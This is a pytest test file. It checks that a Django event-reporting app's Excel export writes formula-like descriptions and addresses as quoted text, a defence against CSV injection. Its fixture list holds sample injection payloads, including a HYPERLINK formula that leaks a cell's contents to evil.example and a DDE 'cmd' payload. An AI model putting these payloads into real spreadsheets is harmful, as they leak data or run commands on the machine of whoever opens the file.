"""The Excel export writes what people typed as text, never as a formula (OWASP CSV injection)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from events.export import FORMULA_TRIGGERS, events_xlsx, text_cell

pytestmark = pytest.mark.django_db

# Descriptions as an attacker would type them: each starts with something a spreadsheet evaluates.
# (A leading tab or carriage return never reaches a row: intake strips white space. The unit test
# below writes them.)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点我")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "＝１＋１",
    "＋86 138",
    "－5",
    "＠SUM(A1)",
]


def exported_rows(api, username="hangtianlu"):
    response = api.as_user(username).get("/api/events/export/", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[3:5] == ["Description", "Address"]
    return header, list(sheet.iter_rows(min_row=2))


def test_a_description_or_address_that_looks_like_a_formula_reaches_the_workbook_as_text(api, report):
    for text in HOSTILE:
        report("gridworker", description=text, address=text)
    report("gridworker", description="x", address="")  # a plain row
    _, rows = exported_rows(api)
    description, address = 3, 4
    cells = {row[description].value: (row[description], row[address]) for row in rows}
    for text in HOSTILE:
        described, located = cells[text]
        for cell in (described, located):
            assert cell.data_type == "s", (text, cell.data_type)
            assert cell.value == text
            assert cell.quotePrefix  # Excel keeps it text when someone edits the cell
    plain = cells["x"][0]
    assert plain.data_type == "s" and not plain.quotePrefix


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_written_as_text(trigger):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    sheet.append([text_cell(sheet, trigger + "1+1"), text_cell(sheet, "安全文本")])
    out = io.BytesIO()
    workbook.save(out)
    hostile, plain = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    # A raw carriage return reads back as a line feed (XML); openpyxl on lxml (python-docx brings it)
    # escapes it and it reads back as written. Either way the cell is text with its quote prefix.
    assert hostile.value in {trigger + "1+1", (trigger + "1+1").replace("\r", "\n")}
    assert (hostile.data_type, hostile.quotePrefix) == ("s", True)
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "安全文本", False)


def test_a_control_character_in_a_description_does_not_break_the_export(api, report):
    report("gridworker", description="井盖\x0b缺失\x1b")
    _, rows = exported_rows(api)
    assert [row[3].value for row in rows] == ["井盖缺失"]


def test_the_export_is_the_same_function_the_api_serves(report):
    from events.models import Event

    report("gridworker", description="=2+2")
    content = events_xlsx(Event.objects.select_related("category__parent", "center", "grid"))
    [row] = list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert (row[3].data_type, row[3].value) == ("s", "=2+2")
